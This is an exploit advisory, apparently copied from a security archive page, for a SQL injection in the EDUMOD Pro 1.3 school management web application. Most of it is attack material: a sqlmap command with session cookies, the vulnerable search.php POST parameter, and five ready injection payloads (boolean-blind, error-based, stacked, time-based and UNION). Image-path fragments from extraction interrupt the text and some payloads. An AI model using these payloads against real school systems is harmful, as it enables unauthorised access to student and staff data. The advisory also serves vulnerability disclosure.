EDUMOD Pro 1.3 SQL Injection

EDUMOD Pro version 1.3 suffers from a remote SQL injection vulnerability.

MD5 | f46e8beda775ea98ff9dc7d2b03635e7

Exploit Title: School Management System | EDUMOD Pro v1.3 a SQL Injection
Date: 02.08.2017
Vendor Homepage:
Exploit Author: Kaan KAMIS
Contact: iletisim[at]k2an[dot]com
Category: Web Application Exploits


EDUMOD Pro is an advanced school management software based on web. It is developed with core PHP and mysql. You can manage all your school with a simple and understandable user interface. All modules available in software is under a start menu you can click to menu and go anywhere accross modules. There are variousmodules available for you and for your school in EDUMOD.

Vulnerable Url:http://localhost/students/search.php (POST Method)

Sqlmap Example : sqlmap -u "http://localhost/students/search.php" --cookie="_gat=1; _omappvp=true; _omappvs=true; _ga=GA1.2.810440502.1501701941; _gid=GA1.2.661879708.1501701941; PHPSESSID=i7gcjsi41rbm48ejn2a1ddgfti"

Parameter: Query (POST)
Type: boolean-based blind
Title: AND boolean-based blind - WHERE or HAVING clause
Payload: Query=Test%' AND 5466=5466 AND '%'='&action=Search

Type: error-based
Title: MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY cl
ause (FLOOR)
Payload: Query=Test%' AND (SELECT 7257 FROM(SELECT COUNT(*),CONCAT(0x717a7a7
671,(SELECT (ELT(7257=7257,1))),0x7171767871,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a) AND '%'='&action=SearchType: stacked queries
Title: MySQL > 5.0.11 stackedqueries (comment)
Payload: Query=Test%';SELECT SLEEP(5)#&action=Search

Type: AND/OR time-based blind
Title: MySQL >= 5.0.12 AND time-based blind
Payload: Query=Test%' AND SLEEP(5) AND '%'='&action=Search

Type: UNION query
Title: Generic UNION query (NULL) - 5 columns
Payload: Query=Test%' UNION ALL SELECTNULL,NULL,CONCAT(0x717a7a7671,0x4d715
71767871),NULL,NULL-- SXjD&action=Search

Related Posts